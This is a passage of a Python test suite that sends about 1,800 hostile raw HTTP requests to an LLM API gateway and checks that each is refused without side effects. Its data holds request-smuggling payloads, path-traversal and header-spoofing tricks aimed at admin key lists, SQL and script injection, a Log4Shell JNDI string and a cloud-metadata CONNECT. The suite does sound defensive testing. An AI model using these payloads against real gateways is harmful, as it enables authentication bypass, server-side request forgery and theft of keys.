        MULTIPART, _TE, body=b"3\r\nabc\r\n0\r\n" + b"X: y\r\n" * 100_000 + b"\r\n"
    ),
    "200,000 chunks of a byte": _post(MULTIPART, _TE, body=b"1\r\na\r\n" * 200_000 + b"0\r\n\r\n"),
    "100 KB of URI": line("/v1/files?" + "a" * 100_000) + b"\r\n",
    "a header of 100 KB": line("/v1/files") + b"X-A: " + b"a" * 100_000 + b"\r\n\r\n",
    "5,000 headers": line("/v1/files") + b"X-A: b\r\n" * 5000 + b"\r\n",
    "an endless head": line("/v1/files") + b"X-A: b\r\n" * 500_000,
    "a header without a colon": line("/v1/files") + b"nonsense\r\n\r\n",
    "a header without a name": line("/v1/files") + b": x\r\n\r\n",
    "a header name with blanks": line("/v1/files") + b"X A: b\r\n\r\n",
    "a header name of bytes": line("/v1/files") + b"X-\xff\xfe: b\r\n\r\n",
    "a null byte in a header": line("/v1/files") + b"X-A: a\0b\r\n\r\n",
    "a bare line feed in a header": line("/v1/files") + b"X-A: a\nX-B: b\r\n\r\n",
    "a folded header": line("/v1/files") + b"X-A: a\r\n  b\r\n\r\n",
    "a bare carriage return": line("/v1/files") + b"X-A: a\rX-B: b\r\n\r\n",
    "a verb with an at": b"G@T /v1/files HTTP/1.1\r\nHost: x\r\n\r\n",
    "a verb in small letters": b"get /v1/files HTTP/1.1\r\nHost: x\r\n\r\n",
    "a verb of 1,000 letters": b"A" * 1000 + b" /v1/files HTTP/1.1\r\nHost: x\r\n\r\n",
    "no verb": b" /v1/files HTTP/1.1\r\nHost: x\r\n\r\n",
    "a verb nobody knows": b"BREW /v1/files HTTP/1.1\r\nHost: x\r\n\r\n",
    "HTTP/0.9": b"GET /v1/files\r\n\r\n",
    "HTTP/0.9 of the key list": b"GET /key/list\r\n",
    "HTTP/3.0": b"GET /v1/files HTTP/3.0\r\nHost: x\r\n\r\n",
    "HTTP/1.9999": b"GET /v1/files HTTP/1.9999\r\nHost: x\r\n\r\n",
    "HTTP/2's preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "an upgrade to h2c": line("/v1/files")
    + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n",
    "an upgrade to a web socket": line("/v1/files")
    + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\r\n",
    "no path": b"GET  HTTP/1.1\r\nHost: x\r\n\r\n",
    "a blank in the path": b"GET /v1/fi les HTTP/1.1\r\nHost: x\r\n\r\n",
    "bytes in the path": b"GET /v1/\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n",
    "a null byte in the path": b"GET /v1/fi\0les HTTP/1.1\r\nHost: x\r\n\r\n",
    "CONNECT": b"CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x\r\n\r\n",
    "an asterisk": b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
    "a whole URL": b"GET http://169.254.169.254/latest HTTP/1.1\r\nHost: x\r\n\r\n",
    "another scheme": b"GET gopher://x/nothing HTTP/1.1\r\nHost: x\r\n\r\n",
    "a whole URL of the key list": b"GET http://gateway/key/list HTTP/1.1\r\nHost: x\r\n\r\n",
    "no host": b"GET /v1/files HTTP/1.1\r\n\r\n",
    "two hosts": b"GET /v1/files HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "a host of nonsense": b"GET /v1/files HTTP/1.1\r\nHost: ][@/?#\r\n\r\n",
    "an expectation of wonders": _post(MULTIPART, b"Expect: wonders", b"Content-Length: 0"),
    "a proxy protocol header": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\nGET / HTTP/1.1\r\n\r\n",
}
NO_HTTP = {
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500,
    "random bytes": bytes(range(256)) * 100,
    "line ends only": b"\r\n" * 5000,
    "null bytes and nothing else": b"\0" * 100_000,
    "a line without an end": b"A" * 300_000,
    "SSH": b"SSH-2.0-OpenSSH_9.0\r\n",
    "an answer": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    "nothing": b"",
}
# The grammar of HTTP leaves no other answer: the coding is unknown to us, which is 501.
_UNKNOWN_CODINGS = ("chunks by another name", "gzip, then chunks", "chunks, then gzip")

WIRE = [
    *(
        Hostile(name, raw=raw, wants=(400, 501) if name in _UNKNOWN_CODINGS else ())
        for name, raw in FRAMING.items()
    ),
    *(Hostile(name, raw=raw, may_close=True) for name, raw in NO_HTTP.items()),
]

_KEYS = {
    "none": None,
    "empty": b"",
    "a blank": b" ",
    "unknown": b"sk-" + b"x" * 40,
    "8,000 characters": b"sk-" + b"x" * 7900,
    "100 KB": b"sk-" + b"x" * 100_000,
    "not ASCII": "sk-schl\u00fcssel".encode(),
    "no UTF-8": b"sk-\xff\xfe",
    "its hash": b"@HASH@",
    "in capitals": b"@CAPITALS@",
    "with a tail": ALICE + b"x",
    "twice": ALICE + b"," + ALICE,
    "null": b"null",
    "a wildcard": b"%",
    **{f"SQL {text}": text.encode() for text in SQL},
    **{f"SQL after sk-: {text}": b"sk-" + text.encode() for text in SQL},
}
_KEY_HEADERS = (b"Authorization: Bearer ", b"x-litellm-api-key: ", b"api-key: ", b"x-api-key: ")
KEYS = [
    Hostile(
        f"key {name} in {header.decode().strip()}",
        method=b"GET",
        headers=() if key is None else (header + key,),
        key=None,
        wants=(401, 431),
    )
    for name, key in _KEYS.items()
    for header in (_KEY_HEADERS if key is not None else _KEY_HEADERS[:1])
] + [
    Hostile(
        "basic authentication", method=b"GET", headers=(b"Authorization: Basic eDp5",), key=None
    ),
    Hostile(
        "digest authentication", method=b"GET", headers=(b"Authorization: Digest x",), key=None
    ),
    Hostile("a key in the query", target=b"/v1/files?api_key=" + ALICE, method=b"GET", key=None),
    Hostile("a key in a cookie", method=b"GET", headers=(b"Cookie: key=" + ALICE,), key=None),
    multipart("no key and a boundary of 8,000 dashes", b"-" * 500_000, key=None, wants=(401,)),
    multipart("no key and 50 MB", lambda: b"x" * (50 << 20), key=None, wants=(401,)),
    json_body("no key and brackets", DEEP, key=None, wants=(401,)),
    json_body("no key and JSON for admins", {"user_id": "x"}, b"/user/new", key=None, wants=(401,)),
]

_DISGUISES = (
    "/key/list",
    "//key/list",
    "///key//list",
    "/key//list",
    "/key/list/",
    "/KEY/LIST",
    "/v1/../key/list",
    "/v1/%2e%2e/key/list",
    "/health/liveness/../../key/list",
    "/health/liveness%2f..%2f..%2fkey%2flist",
    "/health/liveness/..;/../key/list",
    "/health/liveness;/../../key/list",
    "/health/readiness?/../../key/list",
    "/health/readiness%3f/key/list",
    "/key/list;x=y",
    "/key/list%00",
    "/key/list%20",
    "/key/list#/health/liveness",
    "/./key/list",
    "/key/./list",
    "/key%2flist",
    "/%6bey/list",
    "\\key\\list",
    "/v1/files/",
    "/v1//files",
    "/openai/v1/files",
    "/openai/files",
    "/azure/v1/files",
    "/health/../v1/files",
    "/v1/models/../files",
    "/health",
    "/metrics",
    "/static/../app/factory.py",
    "/.env",
    "/.git/config",
    "/console",
    "/nothing?__debugger__=yes&cmd=resource&f=style.css",
)
_TRICKS = (
    b"Host: localhost",
    b"Host: 127.0.0.1/health/liveness",
    b"X-Forwarded-For: 127.0.0.1",
    b"X-Forwarded-Host: localhost",
    b"X-Forwarded-Prefix: /health",
    b"X-Forwarded-Proto: https",
    b"X-Original-URL: /health/liveness",
    b"X-Rewrite-URL: /health/liveness",
    b"X-HTTP-Method-Override: GET",
    b"X-Script-Name: /key",
    b"SCRIPT_NAME: /key",
    b"X-Real-IP: 127.0.0.1",
    b"Forwarded: for=127.0.0.1;host=localhost",
    b"X-Custom-IP-Authorization: 127.0.0.1",
    b"X-User-Role: proxy_admin",
    b"X-Litellm-User: proxy_admin",
)
GATE = [
    *(
        Hostile(f"{verb.decode()} {path}", method=verb, target=path.encode(), key=None)
        for path in _DISGUISES
        for verb in (b"GET", b"HEAD", b"OPTIONS", b"TRACE", b"POST")
        if not path.startswith("/health/readiness?")
    ),
    *(
        Hostile(
            f"{trick.decode()} {verb.decode()}",
            raw=verb
            + b" /key/list HTTP/1.1\r\n"
            + (b"" if trick.startswith(b"Host") else b"Host: x\r\n")
            + trick
            + b"\r\n\r\n",
        )
        for trick in _TRICKS
        for verb in (b"GET", b"HEAD", b"OPTIONS", b"POST")
    ),
    Hostile(
        "a delete disguised as a post",
        target=b"/v1/files/" + FILE,
        headers=(b"X-HTTP-Method-Override: DELETE",),
        wants=(405,),
    ),
    Hostile(
        "a delete disguised in the query",
        target=b"/v1/files/" + FILE + b"?_method=DELETE",
        wants=(405,),
    ),
    *(
        Hostile(
            f"{verb.decode()} of a file", method=verb, target=b"/v1/files/" + FILE, wants=(405,)
        )
        for verb in (b"PUT", b"PATCH", b"TRACE", b"OPTIONS", b"PROPFIND", b"COPY", b"BREW")
    ),
]

_ODD_IDS = (
    "a" * 200,
    'x" onload="',
    "<script>alert(1)</script>",
    "id with blanks",
    "../../etc/passwd",
    "%0d%0aX-Injected: 1",
    "\u202e",
    "req_1\tX-Injected: 1",
    "",
    "${jndi:ldap://evil/x}",
)
INJECTIONS = [
    Hostile(
        f"x-request-id {text[:20]!a}",
        method=b"GET",
        target=b"/v1/files/nothing",
        headers=(b"x-request-id: " + text.encode(),),
        wants=(404, 400),
    )
    for text in _ODD_IDS
] + [
    Hostile(
        f"{header.decode()} {text[:20]!a}",
        method=b"GET",
        headers=(header + text.encode(),),
        wants=(400,),
    )
    for header in (
        b"x-litellm-model: ",
        b"x-litellm-target-model-names: ",
        b"custom-llm-provider: ",
    )
    for text in ("nothing", "../..", "[1]", "http://evil/", "a" * 8000, "gpt, disk, no", *SQL)
]

_GET = b"GET /v1/files/nothing HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + ALICE + b"\r\n"
_OVERRIDES = (
    b"X-HTTP-Method-Override",
    b"X-HTTP-Method",
    b"X-Method-Override",
    b"X_HTTP_METHOD_OVERRIDE",
    b"HTTP-Method-Override",
)
_SCRIPTS = {
    "fullwidth": "\uff46\uff49\uff4c\uff45\uff0dx",
    "Cyrillic look-alikes": "\u0444\u0456l\u0435-x",
    "Kelvin sign": "file-\u212a",
    "dotless i": "f\u0131le-x",
    "combining marks": "file-" + "\u0301" * 500,
    "joiners": "file-\u200d\u200b\ufeffx",
    "tags": "file-\U000e0041\U000e0042",
    "a private character": "file-\ue000",
    "no character": "file-\ufdd0\U0010ffff",
    "other digits": "file-\u0661\u0662\u0663",
    "a flag": "file-\U0001f1e9\U0001f1ea",
    "NFC and NFD": "file-\u00e4a\u0308",
}
_HIDDEN = b"DELETE /v1/files/" + FILE + b" HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + ALICE
_HIDDEN += b"\r\n\r\n"
MORE = [
    *(
        Hostile(name, raw=_GET + header + b"\r\n\r\n")
        for name, header in {
            "a header name of 8,000 letters": b"a" * 8000 + b": b",
            "a header name of 100 KB": b"a" * 100_000 + b": b",
            "a header name with a null byte": b"X-A\0: b",
            "a header name with a tab": b"X-A\t: b",
            "a header name with a colon first": b":X-A: b",
            "a header name with brackets": b"X[A]: b",
            "a header name with a slash": b"X/A: b",
            "a header name with quotes": b'"X-A": b',
            "a header name in UTF-8": "X-\u00c4: b".encode(),
            "a header name with an escape": b"X\x1b[31m: b",
            "a header value with an escape": b"X-A: \x1b[2J",
            "a header value of 8,200 bytes": b"X-A: " + b"b" * 8200,
            "101 headers": b"\r\n".join(b"X-%d: b" % number for number in range(101)),
            "the same header 99 times": b"\r\n".join([b"X-A: b"] * 99),
            "a header with DEL": b"X-A: \x7f",
            "an underscore for a dash": b"Content_Length: 5",
            "an underscore for a dash in the key": b"X_API_KEY: " + ADMIN,
            "a trailer": b"Trailer: Authorization",
            "hop by hop": b"Connection: close, Authorization, x-request-id",
            "a proxy's key": b"Proxy-Authorization: Basic eDp5",
            "two ranges of units": b"Range: bytes=0-1\r\nRange: items=0-1",
            "a cookie of 8 KB": b"Cookie: a=" + b"b" * 8000,
            "an If-Match": b'If-Match: "x"\r\nIf-Modified-Since: nonsense',
            "a forwarded list": b"X-Forwarded-For: " + b", ".join([b"1.1.1.1"] * 400),
            "a forwarded address of nonsense": b"X-Forwarded-For: ';--, ::::, 999.1.1.1",
            "a forwarded escape": b"X-Forwarded-For: 1.1.1.1\x1b[31m",
        }.items()
    ),
    *(
        Hostile(
            f"{header.decode()}: {verb.decode()}",
            target=b"/v1/files/" + FILE,
            headers=(header + b": " + verb,),
            wants=(405, 400),
        )
        for header in _OVERRIDES
        for verb in (b"DELETE", b"GET", b"PUT", b"delete", b"DELETE, GET", b"%80")
    ),
    *(
        Hostile(
            f"a verb in the {place}: {verb}",
            target=b"/v1/files/" + FILE + query,
            headers=(b"Content-Type: application/x-www-form-urlencoded",),
            body=body,
            wants=(405,),
        )
        for verb in ("DELETE", "delete", "PATCH")
        for place, query, body in (
            ("query", f"?_method={verb}".encode(), b""),
            ("form", b"", f"_method={verb}".encode()),
            ("query's other name", f"?method={verb}&http_method={verb}".encode(), b""),
        )
    ),
    *(
        get(f"{name} in {where}", where.replace("@", quote(text)), wants=(400, 404))
        for name, text in _SCRIPTS.items()
        for where in ("/v1/files/@", "/v1/batches/@", "/v1/files?after=@", "/v1/models/@")
    ),
    *(
        json_body(f"{name} for a model", {**CHAT, "model": text}, wants=(400,))
        for name, text in _SCRIPTS.items()
    ),
    *(
        Hostile(f"smuggled: {name}", raw=raw, wants=(400, 501) if name.endswith("coding") else ())
        for name, raw in {
            "behind two equal lengths": _post(
                MULTIPART, b"Content-Length: 0", b"Content-Length: 0", body=_HIDDEN
            ),
            "in a chunk's extension": _post(
                MULTIPART, _TE, body=b"0;a=\r\n\r\n" + _SMUGGLED + b"\r\n\r\n"
            ),
            "with a chunk size that ends in a blank": _post(
                MULTIPART, _TE, body=b"3 \r\nabc\r\n0\r\n\r\n" + _SMUGGLED
            ),
            "with a chunk size after a tab": _post(
                MULTIPART, _TE, body=b"\t3\r\nabc\r\n0\r\n\r\n" + _SMUGGLED
            ),
            "with an underscore in a chunk size": _post(
                MULTIPART, _TE, body=b"0_3\r\nabc\r\n0\r\n\r\n" + _SMUGGLED
            ),
            "with line feeds alone": _post(MULTIPART, _TE, body=b"3\nabc\n0\n\n" + _SMUGGLED),
            "with a chunk that ends early": _post(
                MULTIPART, _TE, body=b"3\r\nabcX\r\n0\r\n\r\n" + _SMUGGLED
            ),
            "by a folded coding": _post(
                MULTIPART, b"Transfer-Encoding:\r\n chunked", body=chunked(WHOLE) + _SMUGGLED
            ),
            "by a coding in capitals and a length": _post(
                MULTIPART, b"TRANSFER-ENCODING: CHUNKED", b"content-length: 3", body=_SMUGGLED
            ),
            "by a quoted coding": _post(
                MULTIPART, b'Transfer-Encoding: "chunked"', body=chunked(WHOLE) + _SMUGGLED
            ),
            "by an empty coding": _post(
                MULTIPART, b"Transfer-Encoding:", b"Content-Length: 0", body=_SMUGGLED
            ),
            "by a null byte in the coding": _post(
                MULTIPART, b"Transfer-Encoding: chunked\0", body=chunked(WHOLE) + _SMUGGLED
            ),
            "by a line feed in a header": _post(
                MULTIPART, b"X: a\nTransfer-Encoding: chunked", body=_SMUGGLED
            ),
            "by a bare carriage return": _post(
                MULTIPART, b"X: a\rTransfer-Encoding: chunked", body=_SMUGGLED
            ),
            "with HTTP/1.0 and chunks": _post(MULTIPART, _TE, body=chunked(WHOLE)).replace(
                b"HTTP/1.1", b"HTTP/1.0"
            ),
            "in the body of a GET": line("/v1/files/nothing")
            + b"Authorization: Bearer "
            + ALICE
            + b"\r\nContent-Length: %d\r\n\r\n" % len(_HIDDEN)
            + _HIDDEN,
            "with a length in a list of equals": _post(
                MULTIPART, b"Content-Length: 0, 0", body=_HIDDEN
            ),
            "with a length and a blank within": _post(
                MULTIPART, b"Content-Length: 1 0", body=_HIDDEN
            ),
            "with digits of another script": _post(
                MULTIPART, "Content-Length: \u0661".encode(), body=_HIDDEN
            ),
        }.items()
    ),
]

FOR_THE_DATABASE = [*IDENTIFIERS, *LISTS, *BODIES, *KEYS, *INJECTIONS]
CASES = [*FORMS, *REDIRECTIONS, *WIRE, *GATE, *MORE, *FOR_THE_DATABASE]


# -------------------------------------------------------------------- the tests


@dataclass
class World:
    """A gateway with something in it, and how that looks from the inside."""

    gateway: Gateway
    upstream: Upstream
    watch: Watch
    names: dict[bytes, bytes] = field(default_factory=dict)
    before: object = None

    @contextlib.contextmanager
    def upstream_without_bytes(self) -> Iterator[None]:
        """Only the local copy can be read for as long as the block runs."""
        fault = self.upstream.fail(method="GET", path_regex="/content$", status=503)
        assert fault
        try:
            yield
        finally:
            self.upstream.clear_faults()

    def look(self) -> object:
        """Everything that a request could have changed, but the trail of what was refused."""
        folder = self.gateway.data_dir
        not_theirs = ("manifold.db", "audit/", "metrics/")
        ours = [path for path in files_below(folder) if not path.startswith(not_theirs)]
        return self.watch.rows(), ours


@pytest.fixture(scope="module")
def world(upstream: Upstream, start_gateway: StartGateway) -> Iterator[World]:
    with made_world(upstream, start_gateway, "hostile", None) as made:
        yield made


@pytest.fixture(scope="module")
def world_on_postgresql(upstream: Upstream, start_gateway: StartGateway) -> Iterator[World]:
    with (
        scratch_postgres() as url,
        made_world(upstream, start_gateway, "hostile-too", url) as made,
    ):
        yield made


@contextlib.contextmanager
def made_world(
    upstream: Upstream, start_gateway: StartGateway, name: str, url: str | None
) -> Iterator[World]:
    account = upstream.account(name)
    config = {
        "model_list": [
            model("gpt", "openai/gpt-4o", account),
            {"model_name": "disk", "litellm_params": {"model": "local/disk"}},
        ],
        "files_settings": [{"custom_llm_provider": "openai", **account.params}],
    }
    gateway = start_gateway(config, workers=2, threads=8, database_url=url)
    # What was asked how often is counted, whatever it was.
    watch = Watch(gateway, but=("audit", "usage_hours", "key_uses"))
    world = World(gateway, upstream, watch)
    alice = gateway.new_user(user_id="alice")
    bob = gateway.new_user(user_id="bob")
    ids = []
    for key, names in ((alice["key"], "disk,gpt"), (bob["key"], "disk,gpt")):
        client = gateway.client(key)
        made = client.files.create(
            file=("kept.txt", b"kept"),
            purpose="user_data",
            extra_body={"target_model_names": names},
        )
        ids.append(made.id.encode())
    world.names = {
        ALICE: alice["key"].encode(),
        ADMIN: gateway.master_key.encode(),
        FILE: ids[0],
        FOREIGN: ids[1],
        b"@HASH@": alice["token"].encode(),
        b"@CAPITALS@": alice["key"].upper().encode(),
    }
    world.before = world.look()
    yield world
    watch.close()
    gateway.close_clients()
    gateway.stop()


def test_there_are_more_than_1800_and_each_has_its_own_name():
    names = [case.name for case in CASES]

    assert len(names) > 1800
    assert sorted(names) == sorted(set(names))


def name_of(case: Hostile) -> str:
    return case.name[:80]


@pytest.mark.parametrize("case", CASES, ids=name_of)
def test_a_hostile_request_is_refused_and_leaves_no_trace(world: World, case: Hostile):
    attack(world, case)


@pytest.mark.parametrize("case", FOR_THE_DATABASE, ids=name_of)
def test_it_is_so_on_postgresql_too(world_on_postgresql: World, case: Hostile):
    attack(world_on_postgresql, case)


def attack(world: World, case: Hostile) -> None:
    got = exchange(world.gateway.url, case.on_the_wire(world.names), then_stop=True)

    assert got or case.may_close, "the connection was closed without an answer"
    for answer in got:
        if case.wants:
            assert answer.status in case.wants, answer
        else:
            assert 400 <= answer.status < 500, answer
        assert "x-injected" not in answer.headers
        if answer.status >= 400 and answer.body:
            check_envelope(answer)
    assert world.upstream.requests() == []
    assert world.look() == world.before


NAMES = {
    "line ends": (b"a\r\nX-Injected: 1\r\n\r\n.txt", None),
    "escaped line ends": (b"a%0D%0AX-Injected: 1.txt", "aX-Injected: 1.txt"),
    "right to left": ("invoice\u202efdp.exe".encode(), "invoicefdp.exe"),
    "a path": (b"../../../../etc/passwd", "passwd"),
    "a Windows path": (b"C:\\\\windows\\\\win.ini", "win.ini"),
    "dots": (b"..", "upload"),
    "a null byte": (b"a\0.txt", "a.txt"),
    "quotes": (b"a%22b.txt", 'a"b.txt'),
    "a semicolon": (b"a;b=c.txt", "a;b=c.txt"),
    "300 characters": (b"a" * 300, "a" * 300),
    "9,000 characters": (b"a" * 9000 + b".txt", "a" * 496 + ".txt"),
    "emoji": ("📁.txt".encode(), "📁.txt"),
    "not composed": ("na\u0308me.txt".encode(), "näme.txt"),
    "no UTF-8": (b"a\xff\xfe.txt", None),
    "SQL": (b"'; DROP TABLE files; --", "'; DROP TABLE files; --"),
    "markup": (b"<script>alert(1)</script>.html", "script>.html"),
}


@pytest.mark.parametrize(("name", "kept"), NAMES.values(), ids=NAMES)
def test_an_odd_file_name_is_kept_harmless(world: World, name: bytes, kept: str | None):
    file = part(b"file", b"content", b'; filename="' + name + b'"')
    sent = upload("", PURPOSE, TARGET, file).on_the_wire(world.names)

    (made,) = exchange(world.gateway.url, sent)

    assert "x-injected" not in made.headers
    if made.status == 400:
        check_envelope(made)
    else:
        assert made.status == 200, made
        shown = json.loads(made.body)
        assert shown["filename"] == kept or kept is None
        assert not set(shown["filename"]) & set("/\\\r\n\0\u202e")
        alice = world.names[ALICE].decode()
        content = world.gateway.api("GET", f"/v1/files/{shown['id']}/content", key=alice)
        assert content.content == b"content"
        assert "x-injected" not in content.headers
        disposition = content.headers["Content-Disposition"]
        assert re.fullmatch(r"attachment; filename\*=UTF-8''[A-Za-z0-9%._~-]+", disposition)
        assert content.headers["X-Content-Type-Options"] == "nosniff"
        gone = world.gateway.api("DELETE", f"/v1/files/{shown['id']}", key=alice)
        assert gone.json()["deleted"] is True
        world.before = world.look()
    assert [path for path in files_below(world.gateway.data_dir) if "passwd" in path] == []
    assert files_below(world.gateway.data_dir / "spool") == []


RANGES = {
    "bytes=0-0": 206,
    "bytes=-1": 206,
    "bytes=0-": 206,
    "bytes=0-999999999999999": 206,
    "bytes=-999999999999999": 206,
    "bytes=999999999999999-": 416,
    "bytes=0-99999999999999999999999999": None,
    "bytes=-99999999999999999999999999": None,
    "bytes=99999999999999999999999999-": None,
    "bytes=4-": 416,
    "bytes=-0": 416,
    "bytes=" + "0-0," * 1500 + "0-0": None,
    "bytes=3-1": None,
    "bytes=--1": None,
    "bytes=a-b": None,
    "bytes=\u0660-\u0661": None,
    "lines=0-1": None,
    "bytes": None,
    "": None,
}


@pytest.mark.parametrize(("asked", "status"), RANGES.items(), ids=[r[:40] for r in RANGES])
def test_an_odd_range_is_served_refused_or_ignored(world: World, asked: str, status: int | None):
    sent = Hostile(
        "",
        method=b"GET",
        target=b"/v1/files/" + FILE + b"/content?model=disk",
        headers=(b"Range: " + asked.encode(),),
    )
    with world.upstream_without_bytes():
        (got,) = exchange(world.gateway.url, sent.on_the_wire(world.names))

    assert got.status in ((200, 416) if status is None else (status,)), got
    if got.status == 416:
        check_envelope(got)
        assert got.headers["content-range"] == "bytes */4"
    else:
        assert b"kept".find(got.body) >= 0 and got.body


def test_half_a_surrogate_pair_in_metadata_is_refused_or_comes_back(world: World):
    body = b'{"user_id":"half","metadata":{"a":"\\ud800"}}'

    (made,) = exchange(
        world.gateway.url, json_body("", body, b"/user/new", key=ADMIN).on_the_wire(world.names)
    )

    if made.status == 400:
        check_envelope(made)
        assert world.look() == world.before
    else:
        assert made.status == 200, made
        assert json.loads(made.body)["metadata"] == {"a": "\ud800"}
        seen = world.gateway.api("GET", "/user/info?user_id=half").json()
        assert seen["user_info"]["metadata"] == {"a": "\ud800"}
        world.before = world.look()


def test_a_body_that_stalls_and_ends_leaves_nothing(world: World):
    large = part(b"file", b"x" * 400_000, b'; filename="a.txt"')
    sent = multipart("", form(PURPOSE, TARGET, large)).on_the_wire(world.names)
    host, port = world.gateway.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=5) as sock:
        for start in range(0, 300_000, 20_000):
            sock.sendall(sent[start : start + 20_000])
            time.sleep(0.02)
        wait_until(lambda: files_below(world.gateway.data_dir / "spool"))
        assert world.gateway.api("GET", "/health/liveness", key="").status_code == 200

    wait_until(lambda: world.look() == world.before)
    assert world.upstream.requests() == []


def test_a_file_that_is_too_large_is_refused_before_it_is_sent(world: World):
    head = multipart("", b"", length=b"%d" % (600 << 20)).on_the_wire(world.names)
    host, port = world.gateway.url.removeprefix("http://").split(":")
    begun = time.monotonic()
    with socket.create_connection((host, int(port)), timeout=5) as sock:
        sock.sendall(head)
        received = b""
        while not received.endswith(b"}\n"):
            received += sock.recv(65536)
        answer = next(answers(received))
        took = time.monotonic() - begun

    assert answer.status == 413
    error = check_envelope(answer)
    assert (error["param"], error["code"]) == ("file", "file_too_large")
    assert str(600 << 20) in error["message"] and str(512 << 20) in error["message"]
    # The rest of the body never comes, so an answer within the time-out shows it all.
    assert took < 2.0
    assert world.look() == world.before


def test_a_field_of_50_mb_is_not_held_in_memory(world: World):
    sent = form(PURPOSE, TARGET, part(b"x", b"y" * (50 << 20)), CONTENT)
    message = multipart("", sent).on_the_wire(world.names)
    exchange(world.gateway.url, message)

    with world.gateway.peak_memory() as peak:
        (answer,) = exchange(world.gateway.url, message)

    assert answer.status == 413
    assert peak.growth < 5 << 20


def test_what_a_request_calls_its_upstream_is_not_believed(world: World):
    """Headers that other gateways obey are those of the client, and go nowhere."""
    names = ("x-litellm-api-base", "x-portkey-custom-host", "x-api-base", "openai-organization")

    response = world.gateway.api(
        "POST",
        "/v1/chat/completions",
        key=world.names[ALICE].decode(),
        headers={**dict.fromkeys(names, EVIL), "Cookie": "a=b", "X-Forwarded-For": EVIL},
        json=CHAT,
    )

    assert response.status_code == 200
    (seen,) = world.upstream.requests()
    assert seen.account == "hostile"
    assert EVIL not in json.dumps([seen.headers, seen.json, seen.query_string])
    assert "cookie" not in seen.headers


def test_no_fault_of_ours_was_logged_and_it_still_serves(world: World):
    log = world.gateway.log_text()

    for sign in ("unexpected_error", "Traceback", "Exception on", "WORKER TIMEOUT", "CRITICAL"):
        assert sign not in log
    assert world.gateway.api("GET", "/health/readiness", key="").status_code == 200
